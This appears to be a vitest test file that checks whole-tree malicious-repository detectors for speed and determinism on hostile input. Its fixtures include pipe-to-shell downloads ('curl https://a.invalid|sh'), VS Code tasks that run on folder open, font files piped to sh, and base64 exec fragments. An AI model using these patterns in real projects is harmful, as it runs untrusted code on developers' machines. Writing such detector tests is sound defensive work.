/** Every detector that looks at the whole tree, on input made to hurt: an answer, soon, whatever it is given. */
import { readdirSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type Contents, contextOf } from '../../../test/support/context.ts';
import { openTask, scripts } from '../../../test/support/lures.ts';
import type { Detector } from '../detector.ts';

const detectors: Detector[] = [];
for (const name of readdirSync(import.meta.dirname).sort()) {
  if (!name.endsWith('.ts') || /\.(?:test|generated)\.ts$/.test(name)) continue;
  const { default: detector }: { default?: Detector } = await import(`./${name.slice(0, -3)}.ts`);
  if (detector?.tree !== undefined && detector.flow === undefined && detector.file === undefined)
    detectors.push(detector);
}

const NAMES = [
  'package.json',
  '.vscode/tasks.json',
  '.vscode/settings.json',
  'package-lock.json',
  'yarn.lock',
  'pnpm-lock.yaml',
  'bun.lock',
  '.npmrc',
  '.yarnrc.yml',
  '.env',
  '.gitignore',
  '.envrc',
  'Makefile',
  'setup.py',
  'a.pth',
  'build.rs',
  'main.tf',
  '.terraform.lock.hcl',
  'README.md',
  'AGENTS.md',
  '.mcp.json',
  '.github/workflows/a.yml',
  '.git/hooks/pre-commit',
  '.git/hooks/update.sample',
  '.husky/pre-commit',
  'a.bat',
  'a.ps1',
  'a.sh',
  '.devcontainer/devcontainer.json',
  'vite.config.js',
  '.pnpmfile.cjs',
  'conftest.py',
  'iocs.csv',
] as const;

/** Reading programs is tested where it is done. */
const TEXTS = NAMES.filter((name) => !/\.c?js$/.test(name));

/** Milliseconds for all detectors together; the machine may be busy. */
const LIMIT = 15_000;

async function ask(contents: Contents): Promise<number> {
  const context = await contextOf(contents);
  const started = performance.now();
  for (const detector of detectors)
    for (const hit of detector.tree?.(context) ?? []) expect(typeof hit.message).toBe('string');
  return performance.now() - started;
}

describe('detectors of the whole tree', () => {
  test('there are many', () => {
    expect(detectors.length).toBeGreaterThan(35);
  });

  const long = 200_000;
  test.each([
    ['blanks', ' '.repeat(long)],
    ['line ends', '\n'.repeat(long)],
    ['hashes and line ends', '#\n'.repeat(long / 2)],
    ['dollars', '$('.repeat(long / 2)],
    ['quotes', `"'`.repeat(long / 2)],
    ['slashes', '/-/'.repeat(long / 3)],
    ['brackets', '['.repeat(long)],
    ['commands', 'curl x|sh;'.repeat(long / 10)],
    ['comments', '<!-- run curl https: AI'.repeat(long / 23)],
    ['base64', 'A='.concat('QUJD'.repeat(long / 4))],
    ['assignments', 'a=b c:d '.repeat(long / 8)],
    ['on', `on:${' '.repeat(long)}`],
    ['python', 'exec(b64decode('.repeat(long / 15)],
    ['NUL', '\u0000'.repeat(long)],
  ])('%s everywhere', { timeout: 60_000 }, async (_, text) => {
    expect(await ask(Object.fromEntries(TEXTS.map((name) => [name, text])))).toBeLessThan(LIMIT);
  });

  test('a manifest of many bad names, a lock of many hosts, many tasks', { timeout: 60_000 }, async () => {
    const many = Object.fromEntries(
      Array.from({ length: 4_000 }, (_, i) => [`dotevn${i % 3 === 0 ? '' : i}`, `https://h${i}.invalid/a.tgz`]),
    );
    const took = await ask({
      'package.json': JSON.stringify({
        dependencies: many,
        scripts: Object.fromEntries(
          Array.from({ length: 400 }, (_, i) => [`s${i}`, `npm run s${i + 1} && npm run s${i + 2}`]),
        ),
      }),
      'package-lock.json': JSON.stringify({
        packages: Object.fromEntries(
          Array.from({ length: 8_000 }, (_, i) => [
            `node_modules/p${i}`,
            { version: '1', resolved: `https://h${i}.invalid/x/-/y-2.0.0.tgz` },
          ]),
        ),
      }),
      '.vscode/tasks.json': JSON.stringify({
        tasks: Array.from({ length: 1_500 }, (_, i) => ({
          label: `t${i}`,
          type: 'shell',
          command: `node a${i}.woff2 | sh`,
          runOptions: { runOn: 'folderOpen' },
        })),
      }),
    });
    expect(took).toBeLessThan(LIMIT);
  });

  test('scripts that run each other in a circle', async () => {
    await ask({
      'package.json': scripts({
        postinstall: 'npm run a',
        a: 'npm run b',
        b: 'npm run a && yarn a && npm run postinstall',
      }),
      '.vscode/tasks.json': openTask('npm run a'),
    });
  });

  test('any JSON and any text', { timeout: 60_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...NAMES),
        fc.oneof(fc.json(), fc.string({ maxLength: 300 })),
        async (name, text) => {
          await ask({ [name]: text });
        },
      ),
      { numRuns: 60 },
    );
  });

  test('the same tree gives the same hits', async () => {
    const files = {
      'package.json': scripts({ prepare: 'node server/server.js &' }),
      '.env': 'A=aHR0cHM6Ly9maXh0dXJlLmludmFsaWQvYQ==',
      '.vscode/tasks.json': openTask('curl https://a.invalid|sh'),
    };
    const run = async () => {
      const context = await contextOf(files);
      return JSON.stringify(detectors.map((detector) => detector.tree?.(context) ?? []));
    };
    expect(await run()).toBe(await run());
  });
});
